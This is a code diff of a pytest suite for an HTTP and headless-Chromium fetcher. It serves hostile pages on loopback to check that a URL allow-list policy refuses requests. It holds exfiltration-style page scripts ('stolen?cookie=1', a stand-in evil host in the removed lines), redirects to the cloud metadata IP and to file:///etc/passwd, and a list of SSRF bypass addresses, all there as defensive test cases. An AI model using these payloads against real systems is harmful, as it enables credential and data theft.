@@ -1,34 +1,62 @@
-"""Fetching by plain HTTP and by a real Chromium, against hostile pages served on loopback."""
+"""Fetching by plain HTTP and by a real Chromium, against hostile pages served on loopback.
+
+No mocks: a ``ThreadingHTTPServer`` on 127.0.0.1 serves every case and the browser is the
+system Chromium.
+"""
 
 from __future__ import annotations
 
+import asyncio
 import threading
 import time
 from collections.abc import Iterator
+from concurrent.futures import ThreadPoolExecutor
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from typing import Any
 
 import pytest
 
 from resources.fetching import (
+    BlockedUrlError,
     BrowserFetcher,
     BrowserNotAvailableError,
+    FetchResult,
     HttpFetcher,
     UrlPolicy,
+    find_chromium,
 )
-from resources.url_policy import BlockedUrlError
 
-JS_PAGE = """<html><body><div id="app">Loading…</div><script>
+SLOW_S = 3.0  # longer than every timeout below
+PAUSE_S = 1.5  # one "slow-ish" page, for the parallelism tests
+
+HOME = b"""<html><head><title>Acme</title></head><body><h1>Home</h1>
+<a href="/pricing">Pricing</a> <a href="/js">JS</a></body></html>"""
+JS_INLINE = """<html><body><div id="app">Loading</div><script>
+document.getElementById('app').innerHTML = '<h1>Inserted ' + 'by script</h1>';
+</script></body></html>"""
+JS_FETCH = """<html><body><div id="app">Loading</div><script>
 fetch('/data.json').then(r => r.json()).then(d => {
-  document.getElementById('app').innerHTML = '<h1>' + d.name + '</h1>';
+  document.getElementById('app').innerHTML = '<h2>' + d.name + '</h2>';
 });
-fetch('http://evil.example.invalid/steal?x=1').catch(() => {});
+</script></body></html>"""
+# Scripts that try to leave the allow-list: another host (localhost is served by the same
+# server, so only the policy can stop it) and a same-site URL that redirects to the metadata IP.
+EXFIL = """<html><body><p>Exfil</p><script>
+fetch('http://localhost:{port}/stolen?cookie=1').catch(() => {{}});
+fetch('/to-metadata').catch(() => {{}});
+new Image().src = 'http://10.0.0.1/pixel.gif';
+try {{ new WebSocket('ws://localhost:{port}/stolen-ws'); }} catch (e) {{}}
+window.open('http://localhost:{port}/stolen-popup');
 </script></body></html>"""
 
 
 class Handler(BaseHTTPRequestHandler):
+    """The test site: one path per behaviour."""
+
+    seen: list[str] = []
+
     def log_message(self, *a: Any) -> None:
-        pass
+        """Keep the test output quiet."""
 
     def _send(
         self,
@@ -45,20 +73,46 @@ class Handler(BaseHTTPRequestHandler):
         self.end_headers()
         self.wfile.write(body)
 
+    def _redirect(self, where: str, code: int = 302) -> None:
+        self._send(code, b"", headers={"Location": where})
+
     def do_GET(self) -> None:  # noqa: N802
+        """Serve one path."""
         p = self.path
-        if p == "/":
-            self._send(200, b"<html><body><h1>Home</h1><a href='/js'>js</a></body></html>")
+        Handler.seen.append(f"{self.headers.get('Host')}{p}")
+        port = self.server.server_address[1]
+        if p in ("/", "/pricing"):
+            self._send(200, HOME)
         elif p == "/js":
-            self._send(200, JS_PAGE.encode())
+            self._send(200, JS_INLINE.encode())
+        elif p == "/js-fetch":
+            self._send(200, JS_FETCH.encode())
         elif p == "/data.json":
-            self._send(200, b'{"name": "Rendered by JavaScript"}', "application/json")
+            self._send(200, b'{"name": "Rendered from JSON"}', "application/json")
+        elif p == "/exfil":
+            self._send(200, EXFIL.format(port=port).encode())
+        elif p == "/latin1":
+            self._send(
+                200,
+                "<html><body>Café</body></html>".encode("latin-1"),
+                "text/html; charset=iso-8859-1",
+            )
         elif p == "/slow":
-            time.sleep(3)
+            time.sleep(SLOW_S)
             self._send(200, b"<html>late</html>")
+        elif p in ("/trickle", "/stall"):
+            self.send_response(200)
+            self.send_header("Content-Type", "text/html")
+            self.end_headers()
+            self.wfile.write(b"<html><body>")
+            self.wfile.flush()
+            for _ in range(10):
+                time.sleep(0.3 if p == "/trickle" else SLOW_S)
+                self.wfile.write(b"<p>more</p>")
+                self.wfile.flush()
         elif p == "/big":
             self._send(200, b"<html>" + b"x" * 500_000 + b"</html>")
-        elif p == "/big-chunked":
+        elif p == "/big-chunked":  # no Content-Length: the cap must stop the read
             self.send_response(200)
             self.send_header("Content-Type", "text/html")
             self.end_headers()
@@ -66,18 +120,24 @@ class Handler(BaseHTTPRequestHandler):
                 self.wfile.write(b"<p>" + b"y" * 10_000 + b"</p>")
         elif p == "/brochure.pdf":
             self._send(200, b"%PDF-1.4 fake", "application/pdf")
+        elif p == "/broken":
+            self._send(500, b"<html>oops</html>")
         elif p == "/loop-a":
-            self._send(302, b"", headers={"Location": "/loop-b"})
+            self._redirect("/loop-b")
         elif p == "/loop-b":
-            self._send(302, b"", headers={"Location": "/loop-a"})
+            self._redirect("/loop-a")
+        elif p.startswith("/chain/"):
+            self._redirect(f"/chain/{int(p.rsplit('/', 1)[1]) + 1}")
         elif p == "/to-metadata":
-            self._send(302, b"", headers={"Location": "http://169.254.169.254/latest/meta-data/"})
+            self._redirect("http://169.254.169.254/latest/meta-data/")
+        elif p == "/to-file":
+            self._redirect("file:///etc/passwd")
         elif p == "/moved":
-            self._send(301, b"", headers={"Location": "/"})
+            self._redirect("/", 301)
         elif p == "/robots.txt":
             self._send(200, b"User-agent: *\nDisallow: /internal/\n", "text/plain")
         elif p.startswith("/pause"):
-            time.sleep(0.6)
+            time.sleep(PAUSE_S)
             self._send(200, f"<html><body>{p}</body></html>".encode())
         else:
             self._send(404, b"<html>not here</html>")
@@ -85,11 +145,12 @@ class Handler(BaseHTTPRequestHandler):
 
 class _QuietServer(ThreadingHTTPServer):
     def handle_error(self, request: Any, client_address: Any) -> None:
-        pass  # clients that give up (timeouts, size caps) break the pipe: that is the point
+        """Clients that give up (timeouts, caps) break the pipe: that is the point."""
 
 
 @pytest.fixture(scope="module")
 def site() -> Iterator[str]:
+    """The test site's base URL, e.g. ``http://127.0.0.1:41234``."""
     server = _QuietServer(("127.0.0.1", 0), Handler)
     server.daemon_threads = True
     threading.Thread(target=server.serve_forever, daemon=True).start()
@@ -104,6 +165,7 @@ def _host(site: str) -> str:
 
 @pytest.fixture(scope="module")
 def http(site: str) -> HttpFetcher:
+    """An HTTP fetcher allowed on the test site only."""
     return HttpFetcher(
         timeout_s=1.0,
         max_bytes=100_000,
@@ -114,12 +176,13 @@ def http(site: str) -> HttpFetcher:
 
 @pytest.fixture(scope="module")
 def browser(site: str) -> BrowserFetcher:
+    """A browser allowed on the test site only."""
     return BrowserFetcher(
         timeout_s=2.0,
         max_bytes=100_000,
+        max_concurrency=6,
         allowed_domains=[_host(site)],
         allow_private_hosts=["127.0.0.1"],
-        settle_ms=800,
     )
 
 
@@ -127,120 +190,248 @@ CASES = [
     ("/", "ok"),
     ("/slow", "timeout"),
     ("/big", "too_large"),
+    ("/big-chunked", "too_large"),
     ("/brochure.pdf", "non_html"),
     ("/nowhere", "not_found"),
+    ("/broken", "http_error"),
     ("/loop-a", "redirect_loop"),
+    ("/chain/0", "too_many_redirects"),
     ("/to-metadata", "blocked"),
+    ("/to-file", "blocked"),
 ]
 
 
-@pytest.mark.parametrize(("path", "outcome"), [*CASES, ("/big-chunked", "too_large")])
+def _check(r: FetchResult, path: str, outcome: str, route: str) -> None:
+    assert r.outcome == outcome, (path, r.outcome, r.error)
+    assert r.route == route
+    assert r.ok == (outcome == "ok")
+    assert (r.html is not None) == (outcome == "ok"), path
+    if outcome != "ok":
+        assert r.error and len(r.error) > 10, (path, r.error)
+
+
+# -- plain HTTP -------------------------------------------------------------------------------
+@pytest.mark.parametrize(("path", "outcome"), CASES)
 def test_http_outcomes(http: HttpFetcher, site: str, path: str, outcome: str) -> None:
     r = http.fetch(site + path)
-    assert r.outcome == outcome, r.error
-    assert r.route == "http"
-    assert (r.html is not None) == (outcome == "ok")
-    if outcome != "ok":
-        assert r.error
+    _check(r, path, outcome, "http")
+    assert r.elapsed_s < http.timeout_s + 0.5
+    if outcome == "blocked":
+        assert "Refused" in r.error and r.redirects == [r.final_url]
+    if outcome == "non_html":
+        assert r.content_type == "application/pdf" and "not HTML" in r.error
+    if outcome == "not_found":
+        assert r.status == 404
+    if outcome == "too_many_redirects":
+        assert len(r.redirects) == http.max_redirects + 1
 
 
+def test_http_metadata_redirect_names_the_address(http: HttpFetcher, site: str) -> None:
+    r = http.fetch(site + "/to-metadata")
+    assert "169.254.169.254" in r.error and "metadata" in r.error
+
+
+@pytest.mark.parametrize("path", ["/trickle", "/stall"])
+def test_http_deadline_includes_a_slow_body(http: HttpFetcher, site: str, path: str) -> None:
+    t0 = time.perf_counter()
+    r = http.fetch(site + path)
+    assert r.outcome == "timeout", r.error
+    assert time.perf_counter() - t0 < http.timeout_s + 0.5
+
+
+def test_http_decodes_with_the_declared_charset(http: HttpFetcher, site: str) -> None:
+    r = http.fetch(site + "/latin1")
+    assert r.ok and "Café" in r.html
+
+
+def test_http_refuses_before_any_request(http: HttpFetcher) -> None:
+    for url in ("file:///etc/passwd", "http://169.254.169.254/", "https://evil.example/"):
+        r = http.fetch(url)
+        assert r.outcome == "blocked" and r.status is None and "Refused" in r.error
+
+
+def test_http_never_raises_for_a_dead_port() -> None:
+    r = HttpFetcher(allow_private_hosts=["127.0.0.1"]).fetch("http://127.0.0.1:1/")
+    assert r.outcome == "error" and "ConnectError" in r.error
+
+
+def test_robots_txt_is_readable_as_text(http: HttpFetcher, site: str) -> None:
+    assert "Disallow: /internal/" in http.fetch_text(site + "/robots.txt")
+    assert http.fetch_text(site + "/nowhere") is None
+    assert http.fetch_text(site + "/brochure.pdf") is None
+
+
+def test_http_pages_are_fetched_in_parallel_and_in_order(http: HttpFetcher, site: str) -> None:
+    urls = [f"{site}/pause{i}" for i in range(6)]
+    fetcher = http.model_copy(update={"timeout_s": 4.0})
+    t0 = time.perf_counter()
+    rs = fetcher.fetch_many(urls)
+    assert time.perf_counter() - t0 < 6 * PAUSE_S / 2
+    assert [r.url for r in rs] == urls and all(r.ok for r in rs)
+
+
+# -- the browser ------------------------------------------------------------------------------
 def test_browser_outcomes(browser: BrowserFetcher, site: str) -> None:
     results = browser.fetch_many([site + p for p, _ in CASES])
     for (path, outcome), r in zip(CASES, results, strict=True):
-        assert r.outcome == outcome, (path, r.error)
-        assert r.route == "browser"
-    assert results[0].html and "Home" in results[0].html
-    assert "169.254.169.254" in results[-1].error
+        _check(r, path, outcome, "browser")
+        assert r.url == site + path
+    by = dict(zip([p for p, _ in CASES], results, strict=True))
+    assert "Home" in by["/"].html and by["/"].status == 200
+    assert by["/"].content_type == "text/html"
+    assert "169.254.169.254" in by["/to-metadata"].error
+    assert by["/to-metadata"].final_url == "http://169.254.169.254/latest/meta-data/"
+    assert by["/brochure.pdf"].content_type == "application/pdf"
+    assert by["/nowhere"].status == 404
+    assert len(by["/chain/0"].redirects) == browser.max_redirects + 1
+    # The slow page timed out on its own (its page closed); the others did not wait for it.
+    assert "within 2 s" in by["/slow"].error
+    assert max(r.elapsed_s for r in results if r.outcome != "timeout") < by["/slow"].elapsed_s
 
 
 def test_redirects_are_followed_and_reported(
     http: HttpFetcher, browser: BrowserFetcher, site: str
 ) -> None:
     for r in (http.fetch(site + "/moved"), browser.fetch(site + "/moved")):
-        assert r.ok and r.final_url == site + "/" and r.redirects == [site + "/"]
+        assert r.ok and r.final_url == site + "/" and r.redirects == [site + "/"], r
+        assert "Home" in r.html
 
 
 def test_the_browser_runs_javascript_that_plain_http_does_not(
     http: HttpFetcher, browser: BrowserFetcher, site: str
 ) -> None:
-    plain = http.fetch(site + "/js")
-    rendered = browser.fetch(site + "/js")
-    assert plain.ok and "Rendered by JavaScript" not in plain.html
-    assert rendered.ok and "<h1>Rendered by JavaScript</h1>" in rendered.html
-    assert rendered.blocked_requests >= 1  # the request to the host off the allow-list
+    with browser.session() as s:
+        inline, fetched = s.fetch_many([site + "/js", site + "/js-fetch"])
+    assert inline.ok and "<h1>Inserted by script</h1>" in inline.html
+    assert fetched.ok and "<h2>Rendered from JSON</h2>" in fetched.html
+    for path in ("/js", "/js-fetch"):
+        plain = http.fetch(site + path)
+        assert plain.ok and "Inserted by script" not in plain.html
+        assert "Rendered from JSON" not in plain.html
+
+
+def test_page_requests_off_the_policy_are_aborted(browser: BrowserFetcher, site: str) -> None:
+    Handler.seen.clear()
+    r = browser.fetch(site + "/exfil")
+    assert r.ok and "Exfil" in r.html
+    # localhost (same server, other name), the redirect hop to 169.254.169.254, 10.0.0.1
+    assert r.blocked_requests >= 2, r  # (images are not loaded at all: resource type)
+    assert not any("stolen" in s for s in Handler.seen), Handler.seen
+    assert any(s.endswith("/to-metadata") for s in Handler.seen)  # asked, then refused
 
 
 def test_a_browser_session_serves_several_batches_in_parallel(
     browser: BrowserFetcher, site: str
 ) -> None:
-    with browser.session() as s:
+    n = 6
+    with browser.model_copy(update={"timeout_s": 6.0}).session() as s:
         t0 = time.perf_counter()
-        rs = s.fetch_many([f"{site}/pause{i}" for i in range(4)])
+        rs = s.fetch_many([f"{site}/pause{i}" for i in range(n)])
         took = time.perf_counter() - t0
-        assert all(r.ok for r in rs)
-        assert took < 4 * 0.6  # four 0.6 s pages, rendered concurrently
-        assert s.fetch(site + "/").ok
+        assert [r.url for r in rs] == [f"{site}/pause{i}" for i in range(n)]
+        assert all(r.ok for r in rs), [r.error for r in rs]
+        assert took < n * PAUSE_S / 2, took  # serially it would take n × PAUSE_S
+        assert s.fetch(site + "/").ok  # a second batch in the same browser
 
 
-def test_http_pages_are_fetched_in_parallel_and_in_order(http: HttpFetcher, site: str) -> None:
-    urls = [f"{site}/pause{i}" for i in range(6)]
-    t0 = time.perf_counter()
-    rs = http.fetch_many(urls)
-    assert time.perf_counter() - t0 < 6 * 0.6
-    assert [r.url for r in rs] == urls and all(r.ok for r in rs)
+def test_the_browser_works_from_threads_and_beside_a_running_loop(
+    browser: BrowserFetcher, site: str
+) -> None:
+    async def inside_a_loop() -> FetchResult:
+        return browser.fetch(site + "/")
+
+    assert asyncio.run(inside_a_loop()).ok
+    with browser.session() as s, ThreadPoolExecutor(3) as pool:
+        rs = list(pool.map(s.fetch, [site + "/", site + "/js", site + "/pricing"]))
+    assert all(r.ok for r in rs)
 
 
-def test_robots_txt_is_readable_as_text(http: HttpFetcher, site: str) -> None:
-    assert "Disallow: /internal/" in http.fetch_text(site + "/robots.txt")
-
-
-@pytest.mark.parametrize(
-    "url",
-    [
-        "file:///etc/passwd",
-        "javascript:alert(1)",
-        "mailto:sales@example.com",
-        "ftp://example.com/x",
-        "http://10.0.0.1/",
-        "http://192.168.1.1/",
-        "http://169.254.169.254/latest/meta-data/",
-        "http://[::1]/",
-        "http://2130706433/",
-        "http://0x7f.0.0.1/",
-        "http://metadata.google.internal/computeMetadata/v1/",
-        "http://localhost/",
-        "http://[fd00:ec2::254]/",
-    ],
-)
-def test_the_policy_refuses_internal_addresses_and_other_schemes(url: str) -> None:
-    with pytest.raises(BlockedUrlError) as err:
-        UrlPolicy().check(url)
-    assert str(err.value).startswith("refused")
-
-
-def test_the_allow_list_forms() -> None:
-    p = UrlPolicy(("shop.example.com", "*.acme.test", "127.0.0.1:8701"), ("127.0.0.1",))
-    p.check("http://127.0.0.1:8701/x")
-    with pytest.raises(BlockedUrlError, match="not on the allow-list"):
-        p.check("http://127.0.0.1:8706/x")  # another port: another site
-    with pytest.raises(BlockedUrlError, match="not on the allow-list"):
-        p.check("https://evil.example.org/")
-    wild = UrlPolicy(("*.acme.test",))
-    with pytest.raises(BlockedUrlError, match="cannot resolve"):  # allowed, then resolved
-        wild.check("http://shop.acme.test/")
-    with pytest.raises(BlockedUrlError, match="not on the allow-list"):
-        wild.check("http://acme.test.evil.example/")
-    with pytest.raises(BlockedUrlError, match="metadata"):
-        UrlPolicy(allow_private_hosts=("169.254.169.254",)).check("http://169.254.169.254/")
-    # loopback only when configured
-    with pytest.raises(BlockedUrlError, match="internal address"):
-        UrlPolicy(("127.0.0.1:8701",)).check("http://127.0.0.1:8701/")
+def test_the_browser_refuses_before_launching_a_page(browser: BrowserFetcher) -> None:
+    with browser.session() as s:
+        for url in ("javascript:alert(1)", "http://[::1]/", "https://evil.example/"):
+            r = s.fetch(url)
+            assert r.outcome == "blocked" and "Refused" in r.error
 
 
 def test_a_missing_chromium_names_the_install_command(monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setenv("CHROMIUM_PATH", "/nowhere/chromium")
+    with pytest.raises(BrowserNotAvailableError, match="apt-get install -y chromium") as err:
+        find_chromium()
+    assert "CHROMIUM_PATH" in str(err.value)
     with pytest.raises(BrowserNotAvailableError, match="apt-get install -y chromium"):
         BrowserFetcher().fetch("http://127.0.0.1/")
     monkeypatch.delenv("CHROMIUM_PATH")
     with pytest.raises(BrowserNotAvailableError, match="apt-get install -y chromium"):
         BrowserFetcher(executable_path="/nowhere/chrome").fetch_many(["http://127.0.0.1/"])
+    monkeypatch.setenv("CHROMIUM_PATH", "/usr/bin/chromium")
+    assert find_chromium() == "/usr/bin/chromium"
+
+
+# -- the policy -------------------------------------------------------------------------------
+@pytest.mark.parametrize(
+    ("url", "why"),
+    [
+        ("file:///etc/passwd", "scheme file"),
+        ("javascript:alert(1)", "scheme javascript"),
+        ("mailto:sales@example.com", "scheme mailto"),
+        ("data:text/html,<h1>x</h1>", "scheme data"),
+        ("ftp://example.com/x", "scheme ftp"),
+        ("tel:+15551234", "scheme tel"),
+        ("http://10.0.0.1/", "internal address 10.0.0.1"),
+        ("http://192.168.1.1/", "internal"),
+        ("http://100.64.0.1/", "internal"),
+        ("http://169.254.169.254/latest/meta-data/", "metadata"),
+        ("http://[fd00:ec2::254]/", "metadata"),
+        ("http://[::ffff:169.254.169.254]/", "metadata"),
+        ("http://metadata.google.internal/computeMetadata/v1/", "metadata"),
+        ("http://[::1]/", "internal address ::1"),
+        ("http://2130706433/", "internal address 127.0.0.1"),
+        ("http://0x7f.0.0.1/", "internal address 127.0.0.1"),
+        ("http://0.0.0.0/", "internal"),
+        ("http://224.0.0.1/", "internal"),
+        ("http://localhost/", "internal"),
+    ],
+)
+def test_the_policy_refuses_internal_addresses_and_other_schemes(url: str, why: str) -> None:
+    with pytest.raises(BlockedUrlError, match=why) as err:
+        UrlPolicy().check(url)
+    assert isinstance(err.value, ValueError)
+    assert err.value.url == url and str(err.value).startswith("Refused to fetch")
+    assert not UrlPolicy().allows(url)
+
+
+def test_public_addresses_pass_an_empty_allow_list() -> None:
+    UrlPolicy().check("http://8.8.8.8/")
+    UrlPolicy().check("https://[2606:4700:4700::1111]/x")
+
+
+def test_the_allow_list_forms() -> None:
+    p = UrlPolicy(("shop.example.com", "*.acme.test", "127.0.0.1:8701"), ("127.0.0.1",))
+    p.check("http://127.0.0.1:8701/x")
+    with pytest.raises(BlockedUrlError, match="127.0.0.1:8706 is not on the allow-list"):
+        p.check("http://127.0.0.1:8706/x")  # another port: another site
+    with pytest.raises(BlockedUrlError, match="not on the allow-list"):
+        p.check("https://evil.example.org/")
+    wild = UrlPolicy(("*.acme.test",))
+    for allowed in ("http://shop.acme.test/", "http://a.b.acme.test/"):
+        with pytest.raises(BlockedUrlError, match="cannot resolve"):  # allowed, then resolved
+            wild.check(allowed)
+    for outside in ("http://acme.test.evil.example/", "http://evilacme.test/"):
+        with pytest.raises(BlockedUrlError, match="not on the allow-list"):
+            wild.check(outside)
+    with pytest.raises(BlockedUrlError, match="metadata"):
+        UrlPolicy(allow_private_hosts=("169.254.169.254",)).check("http://169.254.169.254/")
+    with pytest.raises(BlockedUrlError, match="metadata"):
+        UrlPolicy(("metadata.google.internal",), ("metadata.google.internal",)).check(
+            "http://metadata.google.internal/"
+        )
+
+
+def test_loopback_only_when_configured() -> None:
+    with pytest.raises(BlockedUrlError, match="internal address"):
+        UrlPolicy(("127.0.0.1:8701",)).check("http://127.0.0.1:8701/")
+    UrlPolicy(("127.0.0.1:8701",), ("127.0.0.1",)).check("http://127.0.0.1:8701/")
+    UrlPolicy(allow_private_hosts=("localhost",)).check("http://localhost:8080/")
+    UrlPolicy(allow_private_hosts=("[::1]",)).check("http://[::1]:8080/")
+    with pytest.raises(BlockedUrlError, match="internal address"):  # 127.0.0.1 ≠ 10.0.0.1
+        UrlPolicy(allow_private_hosts=("127.0.0.1",)).check("http://10.0.0.1/")
